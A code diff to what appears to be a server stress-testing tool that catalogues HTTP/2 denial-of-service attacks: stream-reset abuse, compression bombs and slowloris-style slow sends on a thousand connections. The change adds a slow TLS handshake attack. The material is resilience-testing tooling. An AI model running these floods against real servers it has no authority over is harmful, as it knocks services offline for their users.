@@ -17,9 +17,8 @@ import sys
 import threading
 import time
 
-
 from wire import (CONTINUATION, DATA, END_HEADERS, END_STREAM, GOAWAY, HEADERS, PING, PRIORITY, WINDOW_MAX, block, call,
-                  data, frame, message, preface, reset, settings, window_update)
+                  client_hello, data, frame, message, preface, reset, settings, window_update)
 
 ATTACKS = {}
 _BATCH = 100  # of streams
@@ -96,7 +95,7 @@ def made_you_reset_by_refused_streams():
 
 @attack
 def made_you_reset_by_early_answers():
-    """An answer before the end of the request is followed by a reset without an error, which is no offence."""
+    """An answer before the end of the request is followed by a reset, if one without an error."""
     encoded = block("NoSuchMethod")
     yield from on_streams(lambda stream: headers(stream, encoded))
 
@@ -196,11 +195,13 @@ READING = {"made_you_reset_by_early_answers", "gzip_bomb", "hpack_bomb", "header
 
 # What is sent one byte each second, on a thousand connections.
 SLOW = {
+    "slow_tls_handshake": client_hello(),
     "slow_preface": preface(),
     "slow_headers": preface() + frame(HEADERS, END_HEADERS, 1, block("Echo")),
     "slow_body": preface() + headers(1, block("Echo")) + data(1, message(b"x" * 1000)),
 }
 _AT_ONCE = {  # how much of it is sent at once
+    "slow_tls_handshake": 10,
     "slow_preface": 0,
     "slow_headers": len(preface()) + 12,
     "slow_body": len(preface()) + len(headers(1, block("Echo"))) + 12,
